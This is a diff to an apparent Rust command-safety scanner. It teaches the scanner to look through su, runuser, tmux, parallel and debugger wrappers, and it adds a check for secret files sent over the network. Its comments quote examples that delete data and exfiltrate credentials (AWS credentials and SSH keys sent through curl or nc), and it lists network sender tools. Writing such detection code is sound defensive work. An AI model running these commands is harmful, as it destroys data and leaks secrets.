@@ -97,11 +97,10 @@ const WRAPPERS: &[(&str, &[&str], usize)] = &[
     ("dbus-run-session", &[], 0),
     ("catchsegv", &[], 0),
     ("env", &["-u", "--unset", "-C", "--chdir"], 0),
-    ("runuser", &["-u", "-g", "-G", "-s", "--shell", "-w"], 0),
 ];
 
 const SHELLS: &[&str] = &[
-    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "busybox", "yash", "tcsh", "csh",
+    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "hush", "fish", "yash", "tcsh", "csh",
 ];
 
 /// Interpreters and the options that give them code as a string.
@@ -439,6 +438,14 @@ fn exec(s: &mut Scan, words: &[Arg], stdin: &Stdin) -> Output {
         s.note(D, &what, "runs a program chosen at run time");
         return Output::default();
     }
+    if program.glob {
+        s.note(
+            D,
+            &what,
+            "the program's name comes from a glob or brace expansion",
+        );
+        return Output::default();
+    }
     let name = base(&program.text);
     let args = &words[1..];
     if let Some((_, values, skip)) = WRAPPERS.iter().find(|(w, _, _)| *w == name) {
@@ -453,6 +460,94 @@ fn exec(s: &mut Scan, words: &[Arg], stdin: &Stdin) -> Output {
         return Output::default();
     }
     match name {
+        // `busybox rm -rf ~` is `rm -rf ~`.
+        "busybox" | "toybox" if !args.is_empty() => return exec(s, args, stdin),
+        "su" | "runuser" | "sg" if code_option(args).is_some() => {
+            match code_option(args) {
+                Some(code) if code.dynamic => s.note(D, &what, "runs code chosen at run time"),
+                Some(code) => s.nested(&code.text, "run by su -c"),
+                None => {}
+            }
+            return Output::default();
+        }
+        "runuser" => {
+            let (_, rest) = unwrap(args, &["-u", "-g", "-G", "-s", "--shell", "-w"], 0);
+            if rest.is_empty() {
+                s.note(C, &what, "opens a shell as another user");
+                return Output::default();
+            }
+            return exec(s, rest, stdin);
+        }
+        "su" => {
+            s.note(C, &what, "opens a shell as another user");
+            return Output::default();
+        }
+        "sg" => {
+            // `sg group command…`: the words after the group are one shell command.
+            if args.len() > 1 {
+                s.nested(&texts(&args[1..]).join(" "), "run by sg");
+            }
+            return Output::default();
+        }
+        "at" | "batch" => {
+            s.note(C, &what, "schedules commands");
+            if !args.iter().any(|a| {
+                a.text == "-f" || a.text.starts_with("-l") || a.text == "-r" || a.text == "-d"
+            }) {
+                from_stdin(s, stdin, &what, true);
+            }
+            return Output::default();
+        }
+        "script" => {
+            s.note(C, &what, "records a terminal session to a file");
+            if let Some(code) = code_option(args) {
+                s.nested(&code.text, "run by script -c");
+            }
+            return Output::default();
+        }
+        "parallel" => {
+            let end = args
+                .iter()
+                .position(|a| a.text.starts_with(":::"))
+                .unwrap_or(args.len());
+            let cmd: Vec<&Arg> = args[..end]
+                .iter()
+                .skip_while(|a| a.text.starts_with('-'))
+                .collect();
+            if cmd.is_empty() {
+                from_stdin(s, stdin, &what, false);
+            } else if cmd.iter().any(|a| a.dynamic) {
+                s.note(D, &what, "parallel runs code chosen at run time");
+            } else {
+                let code: Vec<String> = cmd.iter().map(|a| a.text.clone()).collect();
+                s.nested(&code.join(" "), "run by parallel");
+            }
+            return Output::default();
+        }
+        "gdb" | "lldb" => {
+            let runs_shell = args.windows(2).any(|w| {
+                matches!(
+                    w[0].text.as_str(),
+                    "-ex" | "--eval-command" | "-o" | "--one-line"
+                ) && ["shell", "!", "python", "system", "call "]
+                    .iter()
+                    .any(|k| w[1].text.contains(k))
+            });
+            s.note(
+                if runs_shell { D } else { C },
+                &what,
+                if runs_shell {
+                    "a debugger command that runs a shell"
+                } else {
+                    "runs a program under a debugger"
+                },
+            );
+            return Output::default();
+        }
+        "tmux" | "screen" => {
+            tmux(s, name, args, &what);
+            return Output::default();
+        }
         "eval" => {
             if args.iter().any(|a| a.dynamic) {
                 s.note(D, &what, "eval runs code chosen at run time");
@@ -597,6 +692,93 @@ fn wrapper(
         return Output::default();
     }
     exec(s, rest, stdin)
+}
+
+/// The value of `-c CMD` / `--command CMD` / `--command=CMD` (su, runuser, script, sg).
+fn code_option(args: &[Arg]) -> Option<Arg> {
+    for (i, a) in args.iter().enumerate() {
+        let cluster = a.text.len() > 1
+            && a.text.starts_with('-')
+            && !a.text.starts_with("--")
+            && a.text[1..].bytes().all(|b| b.is_ascii_alphabetic())
+            && a.text.ends_with('c');
+        if cluster || a.text == "--command" {
+            return args.get(i + 1).cloned();
+        }
+        if let Some(code) = a.text.strip_prefix("--command=") {
+            return Some(Arg {
+                text: code.to_owned(),
+                dynamic: a.dynamic,
+                ..Arg::default()
+            });
+        }
+    }
+    None
+}
+
+/// tmux and screen run shell commands they are given: `tmux new -d 'cmd'`, `send-keys`,
+/// `run-shell`, `screen -dm cmd`.
+fn tmux(s: &mut Scan, name: &str, args: &[Arg], what: &str) {
+    s.note(C, what, "drives a terminal multiplexer");
+    if args.iter().any(|a| a.dynamic) {
+        s.note(
+            D,
+            what,
+            "gives a terminal multiplexer code chosen at run time",
+        );
+        return;
+    }
+    if name == "screen" {
+        let rest: Vec<&Arg> = args
+            .iter()
+            .skip_while(|a| a.text.starts_with('-') || a.text == "-S")
+            .collect();
+        if !rest.is_empty() {
+            let code: Vec<String> = rest.iter().map(|a| a.text.clone()).collect();
+            s.nested(&code.join(" "), "run by screen");
+        }
+        return;
+    }
+    let Some(sub) = args.iter().position(|a| !a.text.starts_with('-')) else {
+        return;
+    };
+    let words: Vec<&Arg> = args[sub + 1..].iter().collect();
+    let positional = |skip_values: &[&str]| -> Vec<String> {
+        let mut out = Vec::new();
+        let mut i = 0;
+        while i < words.len() {
+            let t = words[i].text.as_str();
+            if skip_values.contains(&t) {
+                i += 2;
+                continue;
+            }
+            if !t.starts_with('-') {
+                out.push(t.to_owned());
+            }
+            i += 1;
+        }
+        out
+    };
+    match args[sub].text.as_str() {
+        "send-keys" | "send" => {
+            let keys: Vec<String> = positional(&["-t", "-N"])
+                .into_iter()
+                .filter(|k| !matches!(k.as_str(), "Enter" | "C-m" | "KPEnter" | "C-j"))
+                .collect();
+            if !keys.is_empty() {
+                s.nested(&keys.join(" "), "typed into tmux");
+            }
+        }
+        "new-session" | "new" | "new-window" | "neww" | "split-window" | "splitw"
+        | "respawn-pane" | "respawnp" | "respawn-window" | "respawnw" | "run-shell" | "run"
+        | "if-shell" | "if" | "display-popup" | "popup" => {
+            let rest = positional(&["-t", "-s", "-n", "-c", "-x", "-y", "-e", "-F", "-l", "-w"]);
+            for code in rest {
+                s.nested(&code, "run by tmux");
+            }
+        }
+        _ => {}
+    }
 }
 
 /// `bash -c CODE`, `bash script`, `… | bash`, `bash <<EOF`.
@@ -1549,6 +1731,38 @@ fn network(s: &mut Scan, name: &str, args: &[Arg], parsed: &Parsed, stdin: &Stdi
             "sends a secret file it reads on its input over the network",
         );
     }
+}
+
+/// A last net under the tree walk: a command that names a secret file and a program that
+/// sends things over the network is treated as sending it, however the two are joined
+/// (`k=$(cat ~/.aws/credentials); curl -d "$k" …`, `nc h 80 < <(cat ~/.ssh/id_rsa)`).
+#[must_use]
+pub fn secret_and_network(command: &str) -> Option<String> {
+    const SENDERS: &[&str] = &[
+        // Not ssh, scp or rsync: their key files (`-i ~/.ssh/id_ed25519`) log in, they are
+        // not sent; what they do send is checked command by command.
+        "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "lftp", "mail", "mailx",
+        "sendmail", "mutt", "http", "https", "xh",
+    ];
+    let normal = command.replace("${HOME}", "~").replace("$HOME", "~");
+    let words: Vec<&str> = normal
+        .split(|c: char| {
+            c.is_whitespace()
+                || matches!(
+                    c,
+                    ';' | '|' | '&' | '(' | ')' | '<' | '>' | '`' | '"' | '\'' | '$' | '='
+                )
+        })
+        .filter(|w| !w.is_empty())
+        .collect();
+    let secret = words.iter().find(|w| secret_path(w))?;
+    let sender = words.iter().find(|w| {
+        let w = w.trim_start_matches('@');
+        SENDERS.contains(&base(w)) || w.starts_with("/dev/tcp/") || w.starts_with("/dev/udp/")
+    })?;
+    Some(format!(
+        "names the secret file {secret} and sends with {sender}"
+    ))
 }
 
 #[cfg(test)]
